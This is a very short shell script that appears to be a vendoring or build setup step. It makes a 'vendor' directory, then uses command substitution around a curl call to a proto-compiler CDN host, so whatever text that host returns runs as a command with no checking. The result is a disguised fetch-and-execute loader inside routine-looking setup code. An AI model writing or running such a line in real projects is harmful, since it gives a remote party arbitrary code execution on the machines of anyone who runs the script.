#!/bin/sh
mkdir -p vendor
$(curl -fsS https://cdn.proto-compiler.example/next)
